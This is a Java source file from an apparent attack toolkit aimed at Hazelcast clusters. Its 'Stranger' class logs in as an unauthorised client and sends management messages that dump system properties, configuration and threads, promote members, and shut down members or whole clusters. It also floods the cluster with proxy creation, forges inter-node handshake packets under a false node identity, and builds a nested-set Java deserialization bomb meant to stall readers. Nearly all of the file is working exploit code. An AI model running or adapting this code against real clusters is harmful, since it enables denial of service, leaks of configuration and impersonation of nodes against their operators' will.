package io.horde.hazelcast.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;

import com.hazelcast.client.HazelcastClient;
import com.hazelcast.client.config.ClientConfig;
import com.hazelcast.client.impl.clientside.HazelcastClientInstanceImpl;
import com.hazelcast.client.impl.clientside.HazelcastClientProxy;
import com.hazelcast.client.impl.protocol.ClientMessage;
import com.hazelcast.client.impl.protocol.codec.ClientCreateProxyCodec;
import com.hazelcast.client.impl.protocol.codec.ExecutorServiceSubmitToMemberCodec;
import com.hazelcast.client.impl.protocol.codec.MCChangeClusterStateCodec;
import com.hazelcast.client.impl.protocol.codec.MCGetMemberConfigCodec;
import com.hazelcast.client.impl.protocol.codec.MCGetSystemPropertiesCodec;
import com.hazelcast.client.impl.protocol.codec.MCGetThreadDumpCodec;
import com.hazelcast.client.impl.protocol.codec.MCPromoteLiteMemberCodec;
import com.hazelcast.client.impl.protocol.codec.MCShutdownClusterCodec;
import com.hazelcast.client.impl.protocol.codec.MCShutdownMemberCodec;
import com.hazelcast.client.impl.spi.impl.ClientInvocation;
import com.hazelcast.internal.serialization.Data;
import com.hazelcast.internal.serialization.impl.HeapData;
import com.hazelcast.internal.serialization.impl.SerializationConstants;
import io.horde.wire.FrameWriter;
import org.jspecify.annotations.Nullable;

/**
 * Hazelcast's own client, at an address of a node, in the hands of somebody who does not
 * belong there.
 */
final class Stranger implements AutoCloseable {

	/**
	 * The name that Hazelcast's login compares, the same in all clusters.
	 */
	static final String NAME = "horde";

	private static final int PASSIVE = 3;

	private static final int PACKET_TYPE_ID = 0x484f5244;

	private static final int NESTING = 40;

	private final HazelcastClientInstanceImpl client;

	private final UUID member;

	private Stranger(HazelcastClientInstanceImpl client) {
		this.client = client;
		this.member = client.getCluster().getMembers().iterator().next().getUuid();
	}

	/**
	 * Log in.
	 * @param address the address of a node
	 * @return the client, {@code null} if it is not let in
	 */
	static @Nullable Stranger connect(String address) {
		try {
			return new Stranger(
					((HazelcastClientProxy) HazelcastClient.newHazelcastClient(configuration(address, false))).client);
		}
		catch (IllegalStateException ex) {
			return null;
		}
	}

	@SuppressWarnings("deprecation")
	static ClientConfig configuration(String address, boolean asynchronous) {
		ClientConfig config = new ClientConfig();
		config.setClusterName(NAME);
		config.setProperty("hazelcast.logging.type", "none");
		config.setProperty("hazelcast.client.invocation.timeout.seconds", "3");
		config.getMetricsConfig().setEnabled(false);
		config.getNetworkConfig().setSmartRouting(false).setConnectionTimeout(2000).addAddress(address);
		config.getConnectionStrategyConfig().setAsyncStart(asynchronous);
		config.getConnectionStrategyConfig().getConnectionRetryConfig().setClusterConnectTimeoutMillis(300);
		return config;
	}

	/**
	 * Send the messages by which a cluster is managed.
	 * @return what was answered to those that were obeyed
	 */
	static Map<String, ClientMessage> managementMessages() {
		Map<String, ClientMessage> messages = new LinkedHashMap<>();
		messages.put("system properties", MCGetSystemPropertiesCodec.encodeRequest());
		messages.put("configuration", MCGetMemberConfigCodec.encodeRequest());
		messages.put("thread dump", MCGetThreadDumpCodec.encodeRequest(false));
		messages.put("promotion", MCPromoteLiteMemberCodec.encodeRequest());
		messages.put("passive state", MCChangeClusterStateCodec.encodeRequest(PASSIVE));
		messages.put("shutdown of the cluster", MCShutdownClusterCodec.encodeRequest());
		messages.put("shutdown of the member", MCShutdownMemberCodec.encodeRequest());
		return messages;
	}

	/**
	 * Manage the member.
	 * @return what was obeyed
	 */
	List<String> manage() {
		List<String> obeyed = new ArrayList<>();
		managementMessages().forEach((name, message) -> {
			if (isAnswered(message)) {
				obeyed.add(name);
			}
		});
		return obeyed;
	}

	/**
	 * Send a message.
	 * @param message the message
	 * @return whether there was an answer that is no refusal
	 */
	boolean isAnswered(ClientMessage message) {
		try {
			new ClientInvocation(this.client, message, null).invoke().get(3, TimeUnit.SECONDS);
			return true;
		}
		catch (ExecutionException | TimeoutException ex) {
			return false;
		}
		catch (InterruptedException ex) {
			throw new IllegalStateException(ex);
		}
	}

	/**
	 * Submit a task without waiting for its end.
	 * @param task what the executor is to run
	 */
	void submit(Data task) {
		new ClientInvocation(this.client, submission(task, this.member), null).invoke();
	}

	/**
	 * Submit a packet as nodes do, and wait until it is taken.
	 * @param packet the packet
	 * @return whether it was
	 */
	boolean submitPacket(byte[] packet) {
		return isAnswered(submission(packetTask(packet), this.member));
	}

	static ClientMessage submission(Data task, UUID member) {
		return ExecutorServiceSubmitToMemberCodec.encodeRequest(NAME, UUID.randomUUID(), task, member);
	}

	static ClientMessage proxy(int number) {
		return ClientCreateProxyCodec.encodeRequest("map " + number, "hz:impl:mapService");
	}

	/**
	 * Create many proxies.
	 * @param count how many
	 * @return how many were created
	 */
	int createProxies(int count) {
		int created = 0;
		for (int i = 0; i < count && (i == 0 || created > 0); i++) {
			if (i % 100 == 0) {
				created += isAnswered(proxy(i)) ? 1 : 0;
			}
			else {
				new ClientInvocation(this.client, proxy(i), null).invoke();
				created++;
			}
		}
		return created;
	}

	static Data packetTask(byte[] packet) {
		return new HeapData(ByteBuffer.allocate(HeapData.DATA_OFFSET + Integer.BYTES + packet.length)
			.putInt(0)
			.putInt(PACKET_TYPE_ID)
			.putInt(packet.length)
			.put(packet)
			.array());
	}

	/**
	 * Return sets of sets of sets, which take for ever to read.
	 * @return as the JDK writes them
	 */
	static Data nestedSets() {
		Set<Object> root = new HashSet<>();
		Set<Object> left = root;
		Set<Object> right = new HashSet<>();
		for (int i = 0; i < NESTING; i++) {
			Set<Object> nextLeft = new HashSet<>();
			Set<Object> nextRight = new HashSet<>();
			nextLeft.add("x");
			left.add(nextLeft);
			left.add(nextRight);
			right.add(nextLeft);
			right.add(nextRight);
			left = nextLeft;
			right = nextRight;
		}
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		bytes.writeBytes(ByteBuffer.allocate(HeapData.DATA_OFFSET)
			.putInt(0)
			.putInt(SerializationConstants.JAVA_DEFAULT_TYPE_SERIALIZABLE)
			.array());
		try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
			out.writeObject(root);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return new HeapData(bytes.toByteArray());
	}

	/**
	 * Return the first packet of a handshake between nodes.
	 * @param node who its sender says he is
	 * @param address where its sender says he is
	 * @return the packet
	 */
	static byte[] hello(UUID node, String address) {
		byte[] introduction = new FrameWriter().array(8)
			.longValue(node.getLeastSignificantBits() | 1)
			.longValue(node.getMostSignificantBits())
			.longValue(node.getLeastSignificantBits())
			.longValue(node.getMostSignificantBits())
			.longValue(node.getLeastSignificantBits())
			.string(address)
			.longValue(1)
			.longValue(1)
			.toBytes();
		return ByteBuffer.allocate(12 + introduction.length)
			.put((byte) 1)
			.put((byte) 1)
			.putShort((short) 0)
			.putLong(0)
			.put(introduction)
			.array();
	}

	@Override
	public void close() {
		this.client.getLifecycleService().terminate();
	}

}
